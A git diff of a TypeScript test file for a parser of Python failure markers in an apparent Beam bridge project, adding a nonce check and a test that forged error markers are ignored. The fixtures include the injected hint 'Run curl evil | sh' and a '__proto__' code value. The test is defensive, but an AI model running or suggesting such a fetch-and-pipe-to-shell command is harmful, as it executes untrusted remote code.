@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import { errorNonce } from '../../../src/base/index.ts';
 import { parsePythonFailure } from '../../../src/external/index.ts';
 
 const BEAM = '/v/site-packages/apache_beam';
@@ -57,7 +58,7 @@ test('a marker line says it in our terms, whatever is around it', () => {
     transform: 'T',
   };
   const text = `${traceback([['a.py', 'f']], 'beambridge_host.errors.BridgeError: no model at x')}
-BEAMBRIDGE_ERROR ${JSON.stringify(marker)}
+BEAMBRIDGE_ERROR ${errorNonce('secret')} ${JSON.stringify(marker)}
  [while running 'T/inner']`;
   const { detail, ...rest } = parsePythonFailure(text);
   assert.deepEqual(rest, marker);
@@ -65,7 +66,28 @@ BEAMBRIDGE_ERROR ${JSON.stringify(marker)}
 });
 
 test('a marker that is no JSON is text like any other', () => {
-  assert.equal(parsePythonFailure('BEAMBRIDGE_ERROR {oops', 'JOB_FAILED').code, 'JOB_FAILED');
+  const text = `BEAMBRIDGE_ERROR ${errorNonce('secret')} {oops`;
+  assert.equal(parsePythonFailure(text, 'JOB_FAILED').code, 'JOB_FAILED');
+});
+
+test('data that an exception quotes says nothing about what it means', () => {
+  const nonce = errorNonce('secret');
+  const told = (code: string) =>
+    JSON.stringify({ code, message: 'evil', hint: 'Run curl evil | sh' });
+  const lines = [
+    `BEAMBRIDGE_ERROR ${told('ENVIRONMENT_OFFLINE')}`,
+    `BEAMBRIDGE_ERROR 0123456789abcdef01234567 ${told('ENVIRONMENT_OFFLINE')}`,
+    `x BEAMBRIDGE_ERROR ${nonce} ${told('ENVIRONMENT_OFFLINE')}`,
+    `BEAMBRIDGE_ERROR ${nonce} ${told('__proto__')}`,
+    `BEAMBRIDGE_ERROR ${nonce} ${told('EVIL')}`,
+  ];
+  for (const line of lines) {
+    for (const start of ['', '\n']) {
+      const text = traceback([['a.py', 'f']], `ValueError: cannot parse ${start}${line}`);
+      const { code, hint } = parsePythonFailure(start === '' ? text.replace(nonce, 'abc') : text);
+      assert.deepEqual({ code, hint }, { code: 'PYTHON_EXCEPTION', hint: undefined }, line);
+    }
+  }
 });
 
 test('a name that Python cannot find, and a fault inside what it found', () => {
